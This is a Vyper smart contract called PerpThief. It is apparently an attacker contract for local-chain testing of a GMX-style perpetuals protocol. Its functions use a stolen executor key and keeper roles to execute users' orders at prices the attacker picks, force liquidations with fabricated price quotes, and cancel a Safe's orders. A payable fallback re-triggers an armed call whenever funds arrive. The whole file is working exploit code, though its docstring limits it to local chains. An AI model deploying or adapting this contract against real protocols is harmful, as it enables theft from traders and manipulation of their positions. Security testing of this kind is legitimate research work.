# pragma version 0.4.3
# pragma evm-version cancun
"""
@title PerpThief
@notice Holds a stolen executor key and GMX's keeper roles at once: it executes, cancels and liquidates when and at what
    prices it likes, and strikes again whenever it is paid. LOCAL CHAINS ONLY.
"""
from ethereum.ercs import IERC20

interface DataStore:
    def getBytes32ValuesAt(set_key: bytes32, start: uint256, end: uint256) -> DynArray[bytes32, 128]: view

struct Prices:
    tokens: DynArray[address, 8]
    providers: DynArray[address, 8]
    data: DynArray[Bytes[96], 8]

# keccak256(abi.encode("ACCOUNT_ORDER_LIST"))
ACCOUNT_ORDER_LIST: constant(bytes32) = 0xd008ab8798caa94b11c12ebc5bce5104c343552f5375d1bf3870b4b4a6e8d562
MOST: constant(uint256) = 16
EACH_GAS: constant(uint256) = 14_000_000

data_store: immutable(address)
order_handler: immutable(address)
liquidation_handler: immutable(address)
calls_left: uint256  # how many of the coming payments strike
target: address
payload: Bytes[1024]


@deploy
def __init__(data_store_: address, order_handler_: address, liquidation_handler_: address):
    data_store = data_store_
    order_handler = order_handler_
    liquidation_handler = liquidation_handler_


@external
@payable
def __default__():
    if self.calls_left > 0:
        self.calls_left -= 1
        success: bool = raw_call(self.target, self.payload, revert_on_failure=False)


@external
def arm(target: address, payload: Bytes[1024], times: uint256):
    self.target = target
    self.payload = payload
    self.calls_left = times


@external
@payable
def act(target: address, payload: Bytes[1024]):
    """What the executor does."""
    raw_call(target, payload, value=msg.value)


@external
def work(account: address, tokens: DynArray[address, 8], prices: DynArray[uint256, 8], skip: uint256):
    """Executes the orders of an account at these prices of now, but for those whose bit in `skip` is set."""
    keys: DynArray[bytes32, 128] = self._orders(account)
    quotes: Prices = self._quotes(tokens, prices)
    for i: uint256 in range(len(keys), bound=MOST):
        if (skip >> i) & 1 == 0:
            success: bool = raw_call(
                order_handler,
                abi_encode(
                    keys[i], quotes, method_id=method_id("executeOrder(bytes32,(address[],address[],bytes[]))")
                ),
                gas=EACH_GAS,
                revert_on_failure=False,
            )


@external
def liquidate(
    account: address, market: address, is_long: bool, tokens: DynArray[address, 8], prices: DynArray[uint256, 8]
):
    """`tokens` ends with the collateral token."""
    raw_call(
        liquidation_handler,
        abi_encode(
            account, market, tokens[len(tokens) - 1], is_long, self._quotes(tokens, prices),
            method_id=method_id(
                "executeLiquidation(address,address,address,bool,(address[],address[],bytes[]))"
            ),
        ),
    )


@external
def cancel(module: address, safe: address, place: uint256):
    """Has the module cancel one of a Safe's orders."""
    keys: DynArray[bytes32, 128] = self._orders(safe)
    raw_call(module, abi_encode(safe, keys[place], method_id=method_id("cancel_order(address,bytes32)")))


@external
@view
def cash(account: address, usdc: address, other: address) -> (uint256, uint256, uint256):
    """@return USDC, native coin and another token of an account: positions and orders count nothing"""
    return staticcall IERC20(usdc).balanceOf(account), account.balance, staticcall IERC20(other).balanceOf(account)


@internal
@view
def _orders(account: address) -> DynArray[bytes32, 128]:
    return staticcall DataStore(data_store).getBytes32ValuesAt(
        keccak256(abi_encode(ACCOUNT_ORDER_LIST, account)), 0, 128
    )


@internal
@view
def _quotes(tokens: DynArray[address, 8], prices: DynArray[uint256, 8]) -> Prices:
    quotes: Prices = Prices(tokens=tokens, providers=tokens, data=[])
    for price: uint256 in prices:
        quotes.data.append(abi_encode(price, price, block.timestamp))
    return quotes
